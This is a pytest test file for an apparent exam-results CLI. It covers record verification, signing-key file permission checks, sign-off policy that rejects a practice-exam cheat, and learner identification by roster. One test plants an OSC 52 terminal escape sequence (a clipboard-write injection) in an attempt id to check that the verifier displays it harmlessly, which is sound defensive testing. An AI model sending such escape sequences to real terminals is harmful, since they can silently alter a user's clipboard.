def test_verify_stops_reading_at_the_limit(export: Path, monkeypatch: pytest.MonkeyPatch,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    """A record file over the limit is refused as too large (exit 2)."""
    monkeypatch.setattr("tutor.exam.commands.RECORDS_LIMIT", 1024)
    code, _, err = run(capsys, "results", "verify", str(export))
    assert code == 2 and "too large to be a record file (the limit is 1 KB)" in err


def test_verify_shows_hostile_text_from_the_file_harmlessly(
        export: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """An attempt id holding an escape sequence is reported with the control visible."""
    document = json.loads(export.read_text())
    document["records"][0]["attempt_id"] = "x\x1b]52;c;aGk=\x07"
    export.write_text(json.dumps(document))
    code, out, _ = run(capsys, "results", "verify", str(export))
    assert code == 1 and "\x1b" not in out and "attempt x␛]52;c;aGk=␇" in out


@pytest.fixture
def key_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the signing key file is looked for (tests unset the environment variable)."""
    path = tmp_path / "cfg" / "signing.key"
    monkeypatch.setattr("tutor.exam.record.key_file", lambda: path)
    return path


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620], ids=lambda m: f"{m:04o}")
def test_a_key_file_others_can_reach_is_refused(key_path: Path, mode: int, export: Path,
                                                monkeypatch: pytest.MonkeyPatch,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    """As ssh does for private keys: a group- or world-accessible key names the chmod fix."""
    monkeypatch.delenv(KEY_ENV)
    key_path.parent.mkdir()
    key_path.write_text(KEY.secret.decode() + "\n")
    key_path.chmod(mode)
    code, _, err = run(capsys, "results", "verify", str(export))
    assert code == 2 and f"permissions {mode:04o} are too open" in err
    assert f"Run 'chmod 600 {key_path}'" in err
    key_path.chmod(0o600)
    code, out, _ = run(capsys, "results", "verify", str(export))
    assert code == 0 and "2 intact" in out


@pytest.mark.parametrize("kind", ["fifo", "directory", "too large"])
def test_a_key_file_that_is_not_a_small_regular_file_is_refused(
        key_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A key 'file' that is a pipe, a folder or far too long is an error, not read."""
    from tutor.exam.record import load_key

    monkeypatch.delenv(KEY_ENV, raising=False)
    key_path.parent.mkdir()
    if kind == "fifo":
        os.mkfifo(key_path, 0o600)
    elif kind == "directory":
        key_path.mkdir(0o700)
    else:
        key_path.write_text("k" * 10_000)
        key_path.chmod(0o600)
    with pytest.raises(InputError, match="cannot use the signing key") as refused:
        load_key()
    assert ("not a regular file" in str(refused.value)) != (kind == "too large")


# Sign-off policy: what `results verify --exam ID` asks of each record ----------------------

def test_the_cheat_is_not_sign_off_but_a_real_attempt_is(course: Course, store: Any) -> None:
    """Issue 14's cheat is rejected naming why; an attempt at the definition passes."""
    from tutor.exam.policy import sign_off_problems

    cheat = spec_for(course, questions=1, pass_mark=1, types=["true_false"])
    cheated = ExamSession.begin(store, course, cheat, "Bob Cheat", KEY).submit()
    problems = sign_off_problems(cheated, course, "sign-off")
    assert problems[0].startswith("it is a practice exam")
    assert "pass_mark is 1 in the record but 80 in this course's definition" in problems[1]
    assert "types is true_false in the record" in problems[1]
    real = ExamSession.begin(store, course, spec_for(course), "Ada", KEY).submit()
    assert sign_off_problems(real, course, "sign-off") == []


def test_a_record_from_an_edited_course_is_not_sign_off(course: Course, store: Any) -> None:
    """A learner who edits their local course's pass mark makes a record the verifier refuses."""
    from tutor.exam.policy import sign_off_problems

    edited = defined(course, pass_mark=10)
    record = ExamSession.begin(store, edited, spec_for(edited), "Ada", KEY).submit()
    assert record["exam"]["kind"] == "sign-off"  # it looked like the real thing locally
    assert sign_off_problems(record, course, "sign-off") == [
        "it ran another definition of the exam: pass_mark is 10 in the record but 80 in this "
        "course's definition"]
    assert "not 'final'" in sign_off_problems(record, course, "final")[0]


# Learners by id ------------------------------------------------------------------------------

def test_two_spellings_of_a_name_share_one_attempt_count(course: Course, store: Any) -> None:
    """'Ada Lovelace' used the one attempt; 'ada  lovelace' is the same learner, refused."""
    once = defined(course, questions=2, per_topic=None, attempts=1)
    record = ExamSession.begin(store, once, spec_for(once), "Ada Lovelace", KEY).submit()
    assert record["learner"] == {"id": "ada lovelace", "name": "Ada Lovelace",
                                 "source": "name"}
    with pytest.raises(ExamError, match="has used 1 of 1 attempt"):
        ExamSession.begin(store, once, spec_for(once), "ada  LOVELACE", KEY)


def roster_file(tmp_path: Path) -> Path:
    """A class roster with two learners."""
    path = tmp_path / "roster.csv"
    path.write_text("id,name,email\nA12,Ada Lovelace,ada@example.com\nG7,Grace Hopper,\n")
    return path


def test_a_roster_learner_is_recorded_by_id_and_name(course: Course, store: Any,
                                                     tmp_path: Path) -> None:
    """With a roster the id identifies, the name comes from the roster, both are recorded."""
    from tutor.exam.learners import Roster, identify

    roster = Roster.load(roster_file(tmp_path))
    learner = identify("a12", roster)
    record = ExamSession.begin(store, course, spec_for(course), learner, KEY).submit()
    assert record["learner"] == {"id": "A12", "name": "Ada Lovelace", "source": "roster"}


def test_an_id_not_on_the_roster_is_refused_before_the_screen(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """exam --roster FILE --id X with X not on it: exit 2, saying so."""
    code, _, err = run(capsys, "exam", "--roster", str(roster_file(tmp_path)), "--id", "Z99",
                       "--data-dir", str(tmp_path / "data"))
    assert code == 2 and "'Z99' is not on the roster" in err


def test_verify_exam_rejects_the_cheat_and_accepts_the_real_attempt(
        course: Course, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """Issue 14's done-when: the practice cheat fails verify --exam sign-off, naming why;
    an export of the real sign-off attempts passes, sealed and chained."""
    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
    data = tmp_path / "data"
    store = ProgressStore.open(data, "tester")
    cheat = spec_for(course, questions=1, pass_mark=1, types=["true_false"])
    ExamSession.begin(store, course, cheat, "Bob Cheat", KEY).submit()
    finished_record(course, store, name="Ada Lovelace")
    ExamSession.begin(store, course, spec_for(course), "Ada Lovelace", KEY).submit()
    store.close()
    everything, signed_off = tmp_path / "all.json", tmp_path / "sign-off.json"
    assert run(capsys, "results", "export", "--data-dir", str(data), "-o",
               str(everything))[0] == 0
    code, out, _ = run(capsys, "results", "verify", "--exam", "sign-off", str(everything))
    assert code == 1
    assert "Bob Cheat" in out and "it is a practice exam" in out
    assert "pass_mark is 1 in the record but 80 in this course's definition" in out
    assert run(capsys, "results", "export", "--exam", "sign-off", "--data-dir", str(data),
               "-o", str(signed_off))[0] == 0
    code, out, _ = run(capsys, "results", "verify", "--exam", "sign-off", str(signed_off))
    assert code == 0, out
    assert "Bob Cheat" not in signed_off.read_text()
    code, _, err = run(capsys, "results", "verify", "--exam", "final", str(signed_off))
    assert code == 2 and "defines no exam 'final'" in err
